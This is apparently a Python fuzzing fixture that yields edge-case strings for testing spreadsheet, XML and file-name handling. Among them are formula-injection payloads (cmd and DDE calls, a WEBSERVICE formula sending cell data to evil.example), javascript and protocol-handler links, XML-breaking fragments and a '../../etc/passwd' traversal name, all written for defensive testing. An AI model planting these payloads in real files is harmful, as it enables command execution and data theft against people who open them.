"""Texts that a spreadsheet, an XML parser or a file system might take for something else."""

import random
from collections.abc import Iterator

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","点我")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=IMPORTXML("http://evil.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "{=SUM(A1:A9)}",
    "+86 138",
    "+1+cmd|' /C calc'!A0",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "−3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "%=1",
    "|=1",
    ";=1",
    ",=1",
    '"=1+1"',
    "of:=1+1",
    "msoxl:=1+1",
    "=_xlfn.SINGLE(A1)",
    "R1C1",
    "SORT(",
    "[1]Sheet!A1",
    "#REF!",
    "#N/A",
)
LINKS = (
    "http://evil.example/x",
    "https://evil.example#a",
    "ftp://evil.example",
    "mailto:a@evil.example",
    "external:\\\\host\\share\\x.xlsx",
    "external:c:\\x.xlsx#Sheet!A1",
    "internal:'名册'!A1",
    "internal:Sheet1!A1",
    "file://host/share",
    "\\\\host\\share",
    "//host/share",
    "javascript:alert(1)",
    "ms-excel:ofe|u|http://evil.example",
    "#总览!A1",
)
XML = (
    "_x0041_",
    "_x000D_",
    "_x005F_x0041_",
    "_x005F_",
    "<f>1</f>",
    "</t></si><si><t>x",
    "</is></c><c><f>1+1</f></c>",
    "<!-- x",
    "<!-- -- -->",
    "]]>",
    "<![CDATA[x]]>",
    "<!DOCTYPE x>",
    "<?xml version='1.0'?>",
    "&amp;&lt;&#0;&#x1;",
    "&P&N&A&D&F&G",
    '&"Arial,Bold"&72',
    "&",
    '"',
    "'",
    "''",
)
UNSEEN = (
    *(f"a{chr(code)}b" for code in range(32)),
    "\x00\x1f\x7f",
    "\x85\x9f",
    "\ufeff张三",
    "\ufffe",
    "\uffff",
    "\ud800",
    "a\udfffb",
    "\u202e名",
    "\u2066x\u2069",
    "\u200e\u200f\u061c",
    "\u200b",
    "\u2028\u2029",
    "\u00a0",
    "\u3000",
    "",
    " ",
    " 前后 ",
    "\n\n",
    "两行\r\n三行\r",
)
NAMES = (
    "History",
    "history",
    "总览",
    "名册",
    "'quoted'",
    "O'Brien",
    "a]b[c:d*e?f/g\\h",
    "[]:*?/\\",
    "Print_Area",
    "_xlnm.Print_Titles",
    "A1",
    "CON",
    "nul.txt",
    "..",
    "../../etc/passwd",
    "~$名.xlsx",
    "名.xlsx",
    "x" * 31,
    "x" * 32,
    "长" * 300,
    "😀" * 20,
    "👨‍👩‍👧‍👦",
    "e\u0301\u0301",
    "ẞß",
    "مرحبا",
    "123",
    "00123",
    "1e5",
    "1E400",
    "TRUE",
    "NA",
    "nan",
    "inf",
    "2026-11-13",
    "11月3日",
    "50%",
)
FIXED = (*FORMULAS, *LINKS, *XML, *UNSEEN, *NAMES)
LONG = ("长" * 40_000, "=" * 32_768, "😀" * 16_384, "x" * 32_767)
_BEFORE = ("", "", "=", "+", "-", "@", "＝", "\t", "'", "{=", "_x", "&", "<", " ", "\x01")
_LETTERS = "=+-@'\"<>&;|{}[]()!:*?/\\_x0041,.#%$ \t\r\nA1张三客户😀\u202e\x00\x1b\ufffe\ud834ＡＢ＝"


def strings(*, seed: int = 1) -> Iterator[str]:
    """Yield texts without end: every one above, a few too long for a cell, then made-up ones.

    Args:
        seed: Another number, other made-up texts.
    """
    yield from FIXED
    yield from LONG
    chance = random.Random(seed)
    while True:
        yield _made_up(chance)


def _made_up(chance: random.Random) -> str:
    before = chance.choice(_BEFORE)
    match chance.randrange(4):
        case 0:
            return before + chance.choice(FIXED) + chance.choice(FIXED)
        case 1:
            return before + "".join(chance.choices(_LETTERS, k=chance.randint(1, 40)))
        case 2:
            letters = (chr(chance.randrange(0x110000)) for _ in range(chance.randint(1, 12)))
            return before + "".join(letters)
        case _:
            return before + chance.choice(FIXED)
